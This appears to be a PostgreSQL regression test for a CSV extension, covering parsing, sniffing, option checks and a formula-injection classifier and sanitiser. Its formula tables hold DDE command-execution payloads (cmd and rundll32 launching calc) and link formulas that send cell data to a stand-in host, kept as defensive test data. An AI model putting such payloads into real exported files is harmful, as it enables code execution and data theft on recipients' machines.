-- CSV from SQL: what csv_parse, csv_sniff, csv_classify and csv_sanitize give. The unit tests of extension/core hold
-- every row of the conformance tables; here stands what an SQL caller must see of them.
\set SHOW_CONTEXT never
SET ROLE regress_app;

-- The shape of an answer: record 0 is the header, with the codes about the file.
SELECT * FROM rowhouse.csv_parse(convert_to(E'\ufeffname,note\r\n"Ada, Countess","said ""hi"""\r\n,""\r\nx"y,2,3\r\n', 'UTF8'));
-- A header alone, no header at all, nothing at all, no CSV at all.
SELECT * FROM rowhouse.csv_parse('a,b');
SELECT * FROM rowhouse.csv_parse(E'1,2\\0123,4', '{"header": false}');
SELECT * FROM rowhouse.csv_parse(E'1,2\\015\\0123,4', '{"header": false}');
SELECT * FROM rowhouse.csv_parse('');
SELECT * FROM rowhouse.csv_parse('\x504b0304'::bytea);
SELECT count(*) AS rows_for_null FROM rowhouse.csv_parse(NULL);

-- Inputs of the conformance table: data rows and codes; only what differs is shown. The remark that lines end with LF,
-- which most of them would have, is left out unless it is expected.
CREATE TEMP TABLE conformance (id text, input text, options jsonb, rows jsonb, codes text[]);
INSERT INTO conformance VALUES
    ('C01', E'a,b,c\r\n1,2,3\r\n', '{}', '[["1","2","3"]]', '{}'),
    ('C02', E'a,b,c\n1,2,3\n', '{}', '[["1","2","3"]]', '{nonrfc-line-breaks}'),
    ('C05', E'a,b\r\n1,2\n3,4\r\n', '{}', '[["1","2"],["3","4"]]', '{mixed-line-breaks}'),
    ('C07', E'a,b\n"l1\nl2",2\n', '{}', '[["l1\nl2","2"]]', '{}'),
    ('C11', E'a,b\n"""x""",2\n', '{}', '[["\"x\"","2"]]', '{}'),
    ('C13', E'a,b\n"",2\n', '{}', '[["","2"]]', '{}'),
    ('C14', E'a,b\n,2\n', '{}', '[[null,"2"]]', '{}'),
    ('C15', E'a,b,c\n,,\n', '{}', '[]', '{blank-row}'),
    ('C18', E'a\nx\n\n""\ny\n', '{}', '[["x"],[""],["y"]]', '{blank-row}'),
    ('C19', E'a,b\n1,2\n\n\n', '{}', '[["1","2"]]', '{blank-row,blank-row}'),
    ('C20', E'\n\na,b\n1,2\n', '{}', '[["1","2"]]', '{blank-row,blank-row}'),
    ('C21', E'a,b,c\n1,2\n', '{}', '[["1","2",null]]', '{missing-cell}'),
    ('C21 padded', E'a,b,c\n1,2\n', '{"pad_short_rows": true}', '[["1","2",null]]', '{missing-cell}'),
    ('C22', E'a,b,c\n1,2,3,4\n', '{}', '[["1","2","3"]]', '{extra-cell}'),
    ('C23', E'a,b,c\n1,2,3,\n', '{}', '[["1","2","3"]]', '{trailing-delimiter}'),
    ('C26', E'a,b\n "x",2\n', '{}', '[[" \"x\"","2"]]', '{stray-quote}'),
    ('C27', E'a,b\n"x" ,2\n', '{}', '[["x","2"]]', '{space-after-quote}'),
    ('C27 strict', E'a,b\n"x" ,2\n', '{"strict": true}', '[["x","2"]]', '{stray-quote}'),
    ('C29', E'a,b\n"x"y,2\n', '{}', '[["\"x\"y","2"]]', '{quote-repaired}'),
    ('C32', E'a,b\n"x,2\n3,4\n', '{}', '[["\"x","2"],["3","4"]]', '{unclosed-quote}'),
    ('C36', E'a,b\n''x,y'',2\n', '{"quote": "''"}', '[["x,y","2"]]', '{}'),
    ('C37', E'\ufeffa,b\n1,2\n', '{}', '[["1","2"]]', '{bom}'),
    ('C39', E'a;b\n1,5;2\n', '{}', '[["1,5","2"]]', '{delimiter-detected}'),
    ('C39 given', E'a;b\n1,5;2\n', '{"delimiter": ";"}', '[["1,5","2"]]', '{}'),
    ('C40', E'sep=;\na;b\n1;2\n', '{}', '[["1","2"]]', '{sep-hint}'),
    ('C43', E'a,a\n1,2\n', '{}', '[["1","2"]]', '{duplicate-label}'),
    ('C44', E'a,,c\n1,2,3\n', '{}', '[["1","2","3"]]', '{blank-label}'),
    ('C47', E'a\n1\n\\.\n2\n', '{}', '[["1"],["\\."],["2"]]', '{}'),
    ('C48', E'a,b\n\\N,NULL\n', '{}', '[["\\N","NULL"]]', '{}'),
    ('C51', E'# note\na,b\n1,2\n', '{}', '[["1","2"]]', '{preamble-row}'),
    ('C61', E'a,b\n007,+15551234567\n', '{}', '[["007","+15551234567"]]', '{}'),
    ('no quoting', E'a,b\n"x,2\n', '{"quote": ""}', '[["\"x","2"]]', '{}');
CREATE TEMP VIEW answers AS
SELECT c.*, coalesce(jsonb_agg(to_jsonb(p.cells) ORDER BY p.record) FILTER (WHERE p.record > 0), '[]') AS got_rows,
       ARRAY(SELECT code FROM rowhouse.csv_parse(convert_to(c.input, 'UTF8'), c.options) q, unnest(q.codes) WITH ORDINALITY u(code, n)
             WHERE code <> 'nonrfc-line-breaks' OR code = ANY (c.codes) ORDER BY q.record, n) AS got_codes
FROM conformance c, rowhouse.csv_parse(convert_to(c.input, 'UTF8'), c.options) p
GROUP BY c.id, c.input, c.options, c.rows, c.codes;
SELECT id, got_rows, got_codes FROM answers WHERE got_rows <> rows OR got_codes <> codes ORDER BY id COLLATE "C";
SELECT count(*) AS inputs, count(*) FILTER (WHERE got_rows = rows AND got_codes = codes) AS as_expected FROM answers;

-- Bytes that are no text: encodings guessed and given, a NUL byte, bytes that are no UTF-8.
SELECT cells, codes FROM rowhouse.csv_parse('\xfffe61002c0062000d000a0031002c00e9000d000a00'::bytea);
SELECT cells, codes FROM rowhouse.csv_parse(E'a,b\\015\\0121,\\351\\015\\012');
SELECT cells, codes FROM rowhouse.csv_parse(E'a,b\\015\\0121,\\351\\015\\012', '{"encoding": "iso-8859-5"}');
SELECT cells, codes FROM rowhouse.csv_parse(E'a,b\\015\\0121,x\\000y\\015\\012');
SELECT cells, codes FROM rowhouse.csv_parse(convert_to(E'a,b\r\né,ü\r\n', 'UTF8') || '\xc0af2c320d0a'::bytea);

-- How a file would be read.
SELECT jsonb_pretty(s - 'findings') AS format, jsonb_pretty(s #> '{findings,1}') AS second_finding, jsonb_path_query_array(s, '$.findings[*].code') AS codes
FROM rowhouse.csv_sniff(convert_to(E'\ufeffname;amount\r\nx;"1,5"\r\n\r\ny;2\r\n', 'UTF8')) s;
SELECT s -> 'records' AS records, s -> 'columns' AS columns, jsonb_path_query_array(s, '$.findings[*].code') AS codes
FROM (VALUES (rowhouse.csv_sniff('')), (rowhouse.csv_sniff('\x504b0304'::bytea)), (rowhouse.csv_sniff('a,b')), (rowhouse.csv_sniff(NULL))) t(s);

-- Options: what does not exist or has a wrong value is named.
SELECT options, regress.try(format('SELECT FROM rowhouse.csv_parse(%L, %L)', 'a,b', options)) FROM (VALUES
    ('[]'), ('{"delimeter": ";"}'), ('{"delimiter": ";;"}'), ('{"delimiter": ""}'), ('{"delimiter": "a"}'), ('{"delimiter": 1}'),
    ('{"delimiter": "\""}'), ('{"quote": "x"}'), ('{"quote": ";", "delimiter": ";"}'), ('{"encoding": "klingon"}'),
    ('{"encoding": "utf-8//TRANSLIT"}'), ('{"encoding": ""}'), ('{"header": "yes"}'), ('{"strict": 1}'), ('{"pad_short_rows": []}'),
    ('{"mapping": {}}'), ('{"delimiter": null, "quote": null, "encoding": null, "header": null}')) t(options);

-- Formulas: every class of the list; only what differs is shown.
CREATE TEMP TABLE formulas (class text, type text, value text);
INSERT INTO formulas SELECT 'danger', 'text', v FROM unnest(ARRAY[
    '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '=2+5+cmd|'' /C calc''!A0', '=cmd|''/C calc''!A0', '+cmd|''/C calc''!A0',
    '-cmd|''/C calc''!A0', '@SUM(1+1)*cmd|'' /C calc''!A0', '-2+3+cmd|'' /C calc''!A0',
    '=         cmd|''/c calc.exe''!A', '=rundll32|''URL.dll,OpenURL calc.exe''!A', '=1+1";=1+1', E'=1+1\nx', E'=1+1\r',
    '=HYPERLINK("http://x.invalid/?"&A1,"ok")', '=WEBSERVICE("http://x.invalid")', '=IMPORTXML("http://x.invalid","//a")',
    '=IMAGE("http://x.invalid/"&A1)',
    ' =1+1', E'\u00a0=1+1', E'\u3000=1+1', E'\u200b=1+1', E'\ufeff=1+1', E'\t=1+1', E'\r=1+1', E'\n=1+1', E'\u000b=1+1', E'\u202e=1+1',
    E'\uff1d1+1', E'\uff0b1+1', E'\uff0d1+1', E'\uff20SUM(1,1)', E'\ufe661+1',
    '+1-1', '+1-555-123-4567', '-1-2', '=', '==', '=foo']) v;
INSERT INTO formulas VALUES ('danger', 'phone', '+1-1'), ('danger', 'header', '=1+1'), ('danger', 'email', '=cmd|''/Ccalc''!A0@example.com');
INSERT INTO formulas SELECT 'quote', 'text', v FROM unnest(ARRAY[
    '-', '--', '---', '- bullet', '-foo', '+foo', '-A1', '@handle', '@', E'\t', E'\tname', E'-5\n', '|calc', '%0A=1', ';=1+1']) v;
INSERT INTO formulas VALUES ('quote', 'email', '+tag@example.com'), ('quote', 'email', '-x@example.com'),
    ('quote', 'phone', '+1-555-123-4567'), ('quote', 'phone', '+44 20 7183 8750'), ('quote', 'phone', '+49 (0)151 123456');
INSERT INTO formulas SELECT 'split', 'text', v FROM unnest(ARRAY['a;=1+1', 'a;=1+1;b', 'a,=1+1', E'a\t=1+1', E'a\n=1+1']) v;
INSERT INTO formulas SELECT 'safe', 'text', v FROM unnest(ARRAY[
    '-5', '+5', '-0.02', '-1,234.56', '-12,5', '-1.5E-3', '-50%', E'\u22125', '+15551234567', 'user+tag@example.com', 'a=b', '0=1',
    'O''Neil', 'C++', '1-2', 'A1', 'TRUE', '2020-01-01', '(555) 123', E'\u2013 5', 'https://e.com/?a=1&b=-2', 'a"=1+1', '''=1+1',
    '''-5', ' name', '', 'DDE ("cmd";"/C calc";"!A0")A0']) v;
INSERT INTO formulas VALUES ('safe', 'phone', '+15551234567'), ('safe', 'number', '-5');
SELECT class AS expected, type, to_json(value) AS value, rowhouse.csv_classify(value, type) AS got FROM formulas
WHERE rowhouse.csv_classify(value, type) <> class;
SELECT class, count(*) AS strings, count(*) FILTER (WHERE rowhouse.csv_classify(value, type) = class) AS as_expected
FROM formulas GROUP BY class ORDER BY class;

-- Sanitised, nothing is dangerous, and doing it again changes nothing; what is safe stays as it is.
SELECT type, to_json(value) AS value, to_json(rowhouse.csv_sanitize(value, type)) AS sanitized FROM formulas
WHERE rowhouse.csv_classify(rowhouse.csv_sanitize(value, type), type) IN ('danger', 'split')
   OR rowhouse.csv_sanitize(rowhouse.csv_sanitize(value, type), type) <> rowhouse.csv_sanitize(value, type)
   OR class = 'safe' AND rowhouse.csv_sanitize(value, type) <> value;
SELECT to_json(rowhouse.csv_sanitize(v, t)) FROM (VALUES ('=1+1', 'text'), ('a;=1+1', 'text'), ('-5', 'text'), ('+15551234567', 'phone'),
    ('+1-555-123-4567', 'phone'), ('@SUM(1)', 'header'), ('plain', 'text')) s(v, t);
SELECT regress.try($$SELECT rowhouse.csv_classify('x', 'money')$$);
SELECT regress.try($$SELECT rowhouse.csv_sanitize('x', 'money')$$);
SELECT rowhouse.csv_classify(NULL) IS NULL AND rowhouse.csv_classify('x', NULL) IS NULL AND rowhouse.csv_sanitize(NULL) IS NULL AS null_for_null;

-- A long file can be cancelled.
CREATE TEMP TABLE long_file AS SELECT convert_to(repeat(E'a,b,c\n', 5000000), 'UTF8') AS content;
BEGIN;
SET LOCAL statement_timeout = '50ms';
SELECT count(*) FROM long_file, rowhouse.csv_parse(content);
ROLLBACK;

-- Not for everybody.
RESET ROLE;
CREATE ROLE regress_nobody;
SET ROLE regress_nobody;
SELECT rowhouse.csv_sniff('a,b');
SELECT rowhouse.csv_parse('a,b');
SELECT rowhouse.csv_classify('a');
SELECT rowhouse.csv_sanitize('a');
RESET ROLE;
DROP ROLE regress_nobody;
